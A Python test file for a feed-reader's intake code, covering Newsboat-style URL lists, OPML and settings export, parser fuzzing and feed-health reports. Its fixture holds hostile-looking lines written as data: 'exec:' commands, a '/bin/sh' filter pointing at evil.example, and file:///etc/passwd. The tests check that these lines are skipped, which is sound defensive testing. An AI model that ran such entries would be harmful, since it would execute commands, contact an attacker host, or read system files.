"""Lists of feeds in three forms, and how the feeds of the settings are doing."""

from __future__ import annotations

from contextlib import suppress
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from index.formats.clean import one_line
from index.intake.add import add
from index.intake.fetch import fetch_feeds
from index.intake.opml import opml_export
from index.intake.subscriptions import ListError, parse_feed_list, settings_export, subscriptions
from index.intake.url_list import looks_like_url_list, parse_url_list
from index.settings import Feed, FeedLimits, Retention, load
from tests.fuzzing import examples
from tests.index.intake.newsroom import articles, item, rss

if TYPE_CHECKING:
    from pathlib import Path

    from index.intake.client import Limits
    from tests.index.intake.server import LoopbackServer

URLS = rb"""# my feeds
https://mole.example/f "~The \"Mole\"" ports "north sea"

https://pier.example/f ! wire
"query:Unread:unread = \"yes\""
exec:~/bin/feed.sh
https://mole.example/f wire
filter:/bin/sh:https://evil.example/
file:///etc/passwd
"""


def test_newsboats_list_is_understood() -> None:
    listed = parse_feed_list(URLS)
    assert listed.feeds == (
        Feed("https://mole.example/f", 'The "Mole"', ("ports", "north sea", "wire")),
        Feed("https://pier.example/f", None, ("wire",)),
    )
    assert len(listed.skipped) == 4
    assert all("nothing is run" in reason for reason in listed.skipped)


@pytest.mark.parametrize(
    "data",
    [b"", b"# only remarks", b"exec:ls\n", b"https://a.example/\nA sentence.\n", b"A page: https://a.b"],
)
def test_other_text_is_no_list(data: bytes) -> None:
    assert not looks_like_url_list(data)
    with pytest.raises(ListError):
        parse_feed_list(data)


def test_adding_such_a_list_fetches_its_feeds(server: LoopbackServer, tmp_path: Path, limits: Limits) -> None:
    server.pages["/feed"] = rss("home", item(1))
    (tmp_path / "urls").write_text(f'{server.url("/feed")} "~The Mole"\nexec:rm\n')
    outcomes = add([str(tmp_path / "urls")], tmp_path / "corpus", state=tmp_path / "state", limits=limits)
    assert sorted(outcome.status for outcome in outcomes) == ["kept", "skipped"]
    assert [article.source for article in articles(tmp_path / "corpus")] == ["The Mole"]


def test_an_exported_list_can_be_added(server: LoopbackServer, tmp_path: Path, limits: Limits) -> None:
    server.pages["/feed"] = rss("home", item(1))
    text = opml_export([Feed(server.url("/feed"), "The Mole", ("ports",))])
    (tmp_path / "list.opml").write_text(text)
    add([str(tmp_path / "list.opml")], tmp_path / "corpus", state=tmp_path / "state", limits=limits)
    assert [article.source for article in articles(tmp_path / "corpus")] == ["The Mole"]


def test_lines_for_the_settings_are_settings(tmp_path: Path) -> None:
    feeds = (
        Feed("https://a.example/?a=1&b=#x"),
        Feed("https://b.example/f", "Yes: 'no' — Привет", ("on", "1", "a, b"), full_text=True),
        Feed("https://c.example/f", limits=FeedLimits(entries=5), keep=Retention(days=7, count=10)),
    )
    path = tmp_path / "config.yaml"
    path.write_text(settings_export(feeds), "utf-8")
    assert load(path).feeds == feeds


@settings(max_examples=examples(60), deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=300).map(lambda text: f"http://a.b {text}".encode()))
def test_anything_is_a_list_or_a_list_error(data: bytes) -> None:
    listed = parse_url_list(data)
    for feed in listed.feeds:
        assert feed.url.lower().startswith("http")
        assert all(one_line(tag) == tag for tag in (*feed.tags, feed.name or ""))
    assert all(one_line(reason) == reason for reason in listed.skipped)
    with suppress(ListError):
        parse_feed_list(data)


def test_how_feeds_are_doing(server: LoopbackServer, tmp_path: Path, limits: Limits) -> None:
    good, bad, never = (Feed(server.url(path)) for path in ("/good", "/bad", "/never"))
    corpus, state = tmp_path / "corpus", tmp_path / "state"
    server.pages |= {"/good": rss("The Mole", item(1), item(2)), "/bad": rss("The Pier", item(3))}
    fetch_feeds([good, bad], corpus, state=state, limits=limits)
    del server.pages["/bad"]
    fetch_feeds([good, bad], corpus, state=state, limits=limits)
    first = subscriptions([bad], corpus, state)[0].result
    fetch_feeds([good, bad], corpus, state=state, limits=limits)
    found = subscriptions([good, bad, never], corpus, state)
    assert [one.kept for one in found] == [2, 1, 0]
    doing, failing, unknown = (one.result for one in found)
    assert unknown is None
    assert doing is not None
    assert (doing.new, doing.failing) == (0, None)
    assert failing is not None
    assert first is not None
    assert failing.failing == first.failing
    assert failing.fetched is not None
    assert failing.fetched < (failing.failing or 0) < failing.asked
    assert "404" in failing.told


def test_asking_how_feeds_are_doing_makes_no_corpus(tmp_path: Path) -> None:
    (one,) = subscriptions([Feed("https://a.example/")], tmp_path / "none", tmp_path / "state")
    assert (one.result, one.kept) == (None, 0)
    assert not (tmp_path / "none").exists()
